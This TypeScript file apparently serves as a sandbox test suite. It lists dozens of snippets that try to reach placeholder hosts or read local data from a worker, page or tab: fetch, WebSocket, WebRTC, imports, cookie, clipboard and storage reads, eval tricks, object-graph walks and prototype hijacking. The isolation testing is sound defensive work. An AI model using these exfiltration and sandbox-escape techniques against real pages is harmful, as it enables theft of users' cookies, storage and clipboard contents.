import type { CodeChannel } from './channel';

const inWorker = (id: string, code: string): CodeChannel => ({ id, code, control: 'worker' });
const inPage = (id: string, code: string): CodeChannel => ({ id, code, control: 'page' });
const inTab = (id: string, code: string): CodeChannel => ({ id, code, control: 'tab' });

const blob = (text: string): string => `URL.createObjectURL(new Blob([${text}], {type: 'text/javascript'}))`;

/** Sends with whatever of the network's natives it finds on an object, however it came by the object. */
const SEND_BY = `const send = (scope) => { if (scope && scope.fetch) scope.fetch(HTTP); };`;

/** Walks everything that can be reached from the global object, looking for natives by the names they were born with. */
const WALK = `
  const wanted = new Set(['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'Worker', 'get serviceWorker', 'sendBeacon', 'postMessage']);
  const seen = new Set(), queue = [globalThis, (async () => {}).constructor, (function* () {}).constructor, new Error(),
    new Blob([]).stream(), performance, crypto, structuredClone, URL, [].values(), new Proxy({}, {}), Promise.resolve()];
  const found = {};
  while (queue.length > 0 && seen.size < 50000) {
    const value = queue.pop();
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue;
    seen.add(value);
    try { if (typeof value === 'function' && wanted.has(value.name)) found[value.name] ??= value; } catch {}
    try { queue.push(Object.getPrototypeOf(value)); } catch {}
    try { for (const key of Reflect.ownKeys(value)) {
      const {value: held, get, set} = Reflect.getOwnPropertyDescriptor(value, key);
      queue.push(held, get, set);
    } } catch {}
  }
  if (found.fetch) found.fetch.call(globalThis, HTTP);
  if (found.importScripts) found.importScripts.call(globalThis, HTTP);
  if (found.XMLHttpRequest) { const x = new found.XMLHttpRequest(); x.open('GET', HTTP); x.send(); }`;

/** Stands in for natives that the host calls, to lay hands on what passes through them. */
const HIJACK = `
  const caught = [], restore = [], apply = Reflect.apply;
  for (const [holder, name] of [[Promise.prototype, 'then'], [Map.prototype, 'set'], [Map.prototype, 'get'], [Array.prototype, 'push'],
    [Array.prototype, 'map'], [Function.prototype, 'call'], [Function.prototype, 'apply'], [Function.prototype, 'bind'], [Object, 'freeze'], [Reflect, 'apply'], [JSON, 'stringify']]) {
    const native = holder[name];
    try { holder[name] = function (...given) { if (caught.length < 1e4) caught[caught.length] = this, caught[caught.length] = given[0]; return apply(native, this, given); }; restore[restore.length] = () => { holder[name] = native; }; } catch {}
  }
  addEventListener('message', (event) => { caught[caught.length] = event; caught[caught.length] = event.target; });
  addEventListener('error', (event) => { caught[caught.length] = event.target; });
  setTimeout(() => { throw new Error('caught'); });
  setTimeout(() => { for (const value of caught) { try { if (value && value.fetch) value.fetch(HTTP); if (value && typeof value.postMessage === 'function') value.postMessage(HTTP); } catch {} } for (const back of restore) back(); }, 50);
  if (globalThis.fetch) caught[caught.length] = globalThis;`;

/** Ways out that TypeScript might try, each proved in a page or worker without walls. */
export const codeChannels: readonly CodeChannel[] = [
  inWorker('fetch', `globalThis.fetch(HTTP)`),
  inWorker('fetch-no-cors', `globalThis.fetch(HTTP, {mode: 'no-cors'})`),
  inWorker('fetch-keepalive', `globalThis.fetch(HTTP, {method: 'POST', keepalive: true, body: 'x', mode: 'no-cors'})`),
  inWorker('fetch-request', `globalThis.fetch(new globalThis.Request(HTTP, {mode: 'no-cors'}))`),
  inWorker('fetch-own-host', `globalThis.fetch(OWN)`),
  inWorker('xhr', `const x = new globalThis.XMLHttpRequest(); x.open('GET', HTTP); x.send();`),
  inWorker('xhr-sync', `const x = new globalThis.XMLHttpRequest(); x.open('GET', HTTP, false); x.send();`),
  inWorker('xhr-own-host', `const x = new globalThis.XMLHttpRequest(); x.open('POST', OWN); x.send('x');`),
  inWorker('websocket', `new globalThis.WebSocket(WS)`),
  inWorker('websocket-stream', `new globalThis.WebSocketStream(WS)`),
  inWorker('eventsource', `new globalThis.EventSource(HTTP)`),
  inWorker('eventsource-own-host', `new globalThis.EventSource(OWN)`),
  inPage('beacon', `globalThis.navigator.sendBeacon(HTTP, 'x')`),
  inPage('beacon-own-host', `globalThis.navigator.sendBeacon(OWN, 'x')`),
  inPage(
    'webrtc',
    `const c = new globalThis.RTCPeerConnection({iceServers: [{urls: 'stun:' + HOST + ':' + UDP}]}); c.createDataChannel('x'); c.setLocalDescription();`,
  ),
  inWorker('webtransport', `new globalThis.WebTransport('https://' + HOST + ':' + UDP + '/')`),
  inWorker('import', `import(HTTP).catch(() => {})`),
  inPage('import-own-host', `import(OWN).catch(() => {})`),
  inPage('import-json', `import(HTTP, {with: {type: 'json'}}).catch(() => {})`),
  inPage('import-css', `import(HTTP, {with: {type: 'css'}}).catch(() => {})`),
  inPage('import-by-blob', `import(${blob('`import "${HTTP}"`')}).catch(() => {})`),
  inPage('import-by-data', `import('data:text/javascript,import ' + JSON.stringify(HTTP)).catch(() => {})`),
  inWorker('import-scripts', `globalThis.importScripts(HTTP)`),
  inWorker('import-scripts-own-host', `globalThis.importScripts(OWN)`),
  inWorker('import-scripts-by-blob', `globalThis.importScripts(${blob('`importScripts("${HTTP}")`')})`),
  inWorker('worker-own-host', `new globalThis.Worker(OWN)`),
  inWorker('worker-by-blob', `new globalThis.Worker(${blob('`importScripts("${HTTP}")`')})`),
  inPage('worker-by-data', `new globalThis.Worker('data:text/javascript,importScripts(' + JSON.stringify(HTTP) + ')')`),
  inWorker('worker-module-by-blob', `new globalThis.Worker(${blob('`import "${HTTP}"`')}, {type: 'module'})`),
  inPage('shared-worker-by-blob', `new globalThis.SharedWorker(${blob('`importScripts("${HTTP}")`')})`),
  inPage('shared-worker-own-host', `new globalThis.SharedWorker(OWN)`),
  inPage('service-worker', `globalThis.navigator.serviceWorker.register(OWN)`),
  inWorker('font-face', `new globalThis.FontFace('x', 'url(' + HTTP + ')').load()`),
  inWorker('bitmap', `globalThis.fetch(HTTP).then((r) => r.blob()).then((b) => globalThis.createImageBitmap(b))`),
  inWorker('wasm-streaming', `WebAssembly.instantiateStreaming(globalThis.fetch(HTTP))`),
  inPage('image', `new globalThis.Image().src = HTTP`),
  inPage('audio', `new globalThis.Audio(HTTP).load()`),
  inPage(
    'link-prefetch-by-script',
    `const l = globalThis.document.createElement('link'); l.rel = 'prefetch'; l.href = HTTP; globalThis.document.head.append(l);`,
  ),
  inPage(
    'script-element',
    `const s = globalThis.document.createElement('script'); s.src = HTTP; globalThis.document.head.append(s);`,
  ),
  inPage(
    'iframe',
    `const f = globalThis.document.createElement('iframe'); f.src = HTTP; globalThis.document.body.append(f);`,
  ),
  inPage(
    'form',
    `const f = globalThis.document.createElement('form'); f.action = HTTP; globalThis.document.body.append(f); f.submit();`,
  ),
  inPage(
    'anchor-click',
    `const a = globalThis.document.createElement('a'); a.href = HTTP; globalThis.document.body.append(a); a.click();`,
  ),
  inPage(
    'anchor-ping',
    `const a = globalThis.document.createElement('a'); a.href = '#x'; a.ping = HTTP; a.href = OWN; globalThis.document.body.append(a); a.click();`,
  ),
  inPage('location', `globalThis.location.href = HTTP`),
  inPage('location-replace', `globalThis.location.replace(HTTP)`),
  inTab('top-location', `globalThis.top.location = HTTP`),
  inPage('popup', `globalThis.open(HTTP)`),
  inPage('window-name', `globalThis.name = 'secret'; globalThis.location.href = HTTP + '?' + globalThis.name`),
  inPage(
    'payment',
    `new globalThis.PaymentRequest([{supportedMethods: HTTPS}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()`,
  ),
  inPage('notification-icon', `new globalThis.Notification('x', {icon: HTTP})`),
  inPage('message-to-parent', `globalThis.parent.postMessage('reached message-to-parent', '*')`),
  inPage('broadcast', `new globalThis.BroadcastChannel('levain-security').postMessage('reached broadcast')`),
  inPage('local-storage', `reached(globalThis.localStorage.getItem('secret'))`),
  inWorker('indexed-db', `globalThis.indexedDB.databases().then((list) => reached(list.map((d) => d.name).join()))`),
  inWorker(
    'opfs',
    `globalThis.navigator.storage.getDirectory().then(async (d) => { for await (const name of d.keys()) reached(name); })`,
  ),
  inWorker('cache-storage', `globalThis.caches.keys().then((keys) => reached(keys.join()))`),
  inPage('cookie', `reached(globalThis.document.cookie)`),
  inTab('cookie-store', `globalThis.cookieStore.getAll().then((all) => reached(all.map((c) => c.value).join()))`),
  inTab('clipboard', `globalThis.navigator.clipboard.readText().then(reached)`),
  inWorker('locks', `globalThis.navigator.locks.query().then(() => reached('locks'))`),
  inWorker('eval', `(0, eval)('fetch(' + JSON.stringify(HTTP) + ')')`),
  inWorker('timeout-of-text', `setTimeout('fetch(' + JSON.stringify(HTTP) + ')', 0)`),
  inWorker('async-function', `(async () => {}).constructor('return fetch(' + JSON.stringify(HTTP) + ')')()`),
  inWorker('generator-function', `(function* () {}).constructor('fetch(' + JSON.stringify(HTTP) + ')')().next()`),
  inWorker('sloppy-this', `Function('a', 'if (this.fetch) this.fetch(a)')(HTTP)`),
  inWorker(
    'stack-frames',
    `${SEND_BY} Error.prepareStackTrace = (_, frames) => frames; const f = Function('return new Error().stack'); try { for (const frame of f()) send(frame.getThis && (frame.getThis() ?? undefined)); } finally { delete Error.prepareStackTrace; } if (globalThis.fetch) send(globalThis);`,
  ),
  inWorker(
    'event-target',
    `${SEND_BY} addEventListener('unhandledrejection', (event) => send(event.currentTarget), {once: true}); Promise.reject(1); setTimeout(() => {}, 50);`,
  ),
  inWorker('object-walk', WALK),
  inWorker('hijacked-natives', HIJACK),
  inWorker(
    'source-map',
    `import(${blob('`export default 1;\\n//# sourceMappingURL=${HTTP}`')}); ${blob('`//# sourceURL=${HTTP}`')}`,
  ),
];
